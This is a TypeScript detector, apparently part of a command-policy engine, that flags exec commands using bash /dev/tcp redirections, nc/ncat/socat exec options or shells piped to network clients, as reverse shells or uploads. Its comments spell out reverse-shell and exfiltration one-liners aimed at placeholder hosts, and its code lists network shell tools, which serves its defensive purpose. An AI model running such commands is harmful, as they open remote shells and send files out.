/**
 * Commands of an exec that talk to a raw network socket (`attrs.exec.socketIo`), for the rules on
 * uploads (MLS-EXFIL-014) and reverse shells (MLS-RAY-015):
 *
 * - bash's network redirections (`/dev/tcp/HOST/PORT`, `/dev/udp/…`: bash opens the socket itself,
 *   no tool is run, so no tool list sees it). Each script command's redirections are applied in
 *   order to its descriptors, as the shell does: `cat model.pt > /dev/tcp/h/9000` (stdout on the
 *   socket), `bash -i >& /dev/tcp/h/4444 0>&1` (`>&` a path moves 1 and 2, then 0 duplicates 1),
 *   `exec 3<>/dev/tcp/h/p` (a lone `exec`: the descriptor stays open for the later commands) then
 *   `cat f >&3` or `sh <&3 >&3 2>&3`. A command whose stdout or stderr is a socket gives `send
 *   <tool>` (`probe <tool>` for echo, printf, true and the like, which write only what the script
 *   spells: `echo > /dev/tcp/db/5432 && echo up` checks a port), one whose stdin is gives `recv <tool>`; a shell (or a tool word only known at run time,
 *   `$line`) with its stdin or its stdout on a socket gives `shell <shell>`: the shell's commands
 *   come from, or its output goes to, whoever is at the other end.
 * - Network tools told to run a shell for the peer: `nc -e /bin/sh h p`, `nc -c sh`, ncat `--exec`,
 *   `--sh-exec`, `--lua-exec`; socat with an `EXEC:` or `SYSTEM:` address (`shell <tool>`).
 * - A shell piped into a network client or fed by one (`cat /tmp/f | sh -i 2>&1 | nc h p >
 *   /tmp/f`, `nc h 4444 | bash | nc h 4445`): `shell <shell>`.
 *
 * Only a script's redirections are read (a `>` in argv is a word the tool is given). Tools are
 * basenames past wrappers (sudo, nohup, timeout…). In order, each value once, at most MAX_VALUES;
 * never throws.
 */
import { eachRedirection, operandsOf } from './exec-decode-stage.js';
import { runIndex } from './exec-fetched-run.js';
import { SHELLS } from './exec-interpreter-shells.js';
import { toolIndex } from './exec-wrappers.js';

/** Values one reading gives. */
export const MAX_VALUES = 16;
/** Open descriptors remembered across commands (`exec N<>/dev/tcp/…`). */
const MAX_SOCKET_FDS = 8;

/** Clients a shell is piped into or from in the named-pipe reverse shell. */
const NET_CLIENTS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'telnet', 'openssl', 'socat']);
/** Tools that write only what the script spells: on a socket, a port probe (`echo > /dev/tcp/db/5432 && echo up`). */
const PRINTERS: ReadonlySet<string> = new Set(['echo', 'printf', 'true', ':', 'false', 'test', '[']);
const NC_EXEC: ReadonlySet<string> = new Set(['-e', '-c', '--exec', '--sh-exec', '--lua-exec']);

const isSocketPath = (p: string): boolean => /^\/dev\/(tcp|udp)\/[^/]+\/[^/]+$/.test(p);
const isDigits = (w: string): boolean => /^\d{1,4}$/.test(w);

/** What a descriptor reads or writes: a socket or anything else. */
type Fd = 'sock' | 'other';

/**
 * The socket traffic of `commands` (a canonical reading's, tool words as basenames); `scripted[i]`
 * says command i came from a script, `pipesOut` which commands' output the next command reads.
 */
export function socketIo(commands: readonly (readonly string[])[], scripted: readonly boolean[], pipesOut: readonly number[] = []): string[] {
  const out: string[] = [];
  const add = (v: string): void => {
    if (out.length < MAX_VALUES && !out.includes(v)) out.push(v);
  };
  /** Descriptors a lone `exec` left open on a socket. */
  const open = new Set<string>();
  for (let c = 0; c < commands.length; c++) {
    const cmd = commands[c]!;
    const { words, t, tool } = runIndex(cmd);
    if (tool !== '') netToolShell(words, t, tool, add);
    if (tool !== '' && pipesOut.includes(c)) pipedShell(tool, commands[c + 1], add);
    if (scripted[c] !== true) continue;
    const fds = redirected(cmd, open);
    if (fds === null) continue;
    const first = toolIndex(cmd);
    if (cmd[first] === 'exec' && operandsOf(cmd, first, false)!.length === 0) {
      // `exec 3<>/dev/tcp/h/p`: the script keeps the descriptors for what follows.
      for (const [fd, kind] of fds) {
        if (kind === 'sock' && open.size < MAX_SOCKET_FDS) open.add(fd);
        else if (kind === 'other') open.delete(fd);
      }
      continue;
    }
    if (tool === '') continue;
    const inSock = fds.get('0') === 'sock';
    const outSock = fds.get('1') === 'sock' || fds.get('2') === 'sock';
    if (SHELLS.has(tool) || tool.startsWith('$')) {
      if (inSock || outSock) add(`shell ${tool}`);
    } else {
      if (outSock) add(`${PRINTERS.has(tool) ? 'probe' : 'send'} ${tool}`);
      if (inSock) add(`recv ${tool}`);
    }
  }
  return out;
}

/**
 * The descriptors a script command's redirections leave on a socket or elsewhere, applied in
 * order from the descriptors `open` holds; null when no socket is open nor opened.
 */
function redirected(words: readonly string[], open: ReadonlySet<string>): Map<string, Fd> | null {
  let fds: Map<string, Fd> | null = null;
  eachRedirection(words, 0, (op, fd, to) => {
    const dup = (op === '>&' || op === '<&') && (isDigits(to) || to === '-');
    const kind: Fd = dup ? (to !== '-' && (fds?.get(to) ?? (open.has(to) ? 'sock' : 'other')) === 'sock' ? 'sock' : 'other') : isSocketPath(to) ? 'sock' : 'other';
    if (kind !== 'sock' && fds === null && open.size === 0) return;
    fds ??= new Map([...open].map((f): [string, Fd] => [f, 'sock']));
    if (fd === '' && ((op === '>&' && !dup) || op === '&>' || op === '&>>')) {
      fds.set('1', kind);
      fds.set('2', kind);
    } else fds.set(fd !== '' ? fd : op.startsWith('<') ? '0' : '1', kind);
  });
  return fds;
}

/** `nc -e /bin/sh h p`, ncat `--sh-exec`, socat `EXEC:` / `SYSTEM:`: a network tool running a shell for its peer. */
function netToolShell(words: readonly string[], t: number, tool: string, add: (v: string) => void): void {
  if (tool === 'nc' || tool === 'ncat' || tool === 'netcat') {
    for (let k = t + 1; k < words.length; k++) {
      const w = words[k]!;
      if (NC_EXEC.has(w) || w.startsWith('--exec=') || w.startsWith('--sh-exec=') || /^-[a-zA-Z]*[ec]$/.test(w) || /^-e\S/.test(w)) {
        add(`shell ${tool}`);
        return;
      }
    }
  } else if (tool === 'socat') {
    for (let k = t + 1; k < words.length; k++) {
      if (/^(exec|system):/i.test(words[k]!)) {
        add('shell socat');
        return;
      }
    }
  }
}

/** A shell piped into a network client, or a network client piped into a shell. */
function pipedShell(tool: string, next: readonly string[] | undefined, add: (v: string) => void): void {
  if (next === undefined) return;
  const to = runIndex(next).tool;
  if (SHELLS.has(tool) && NET_CLIENTS.has(to)) add(`shell ${tool}`);
  else if (NET_CLIENTS.has(tool) && SHELLS.has(to)) add(`shell ${to}`);
}
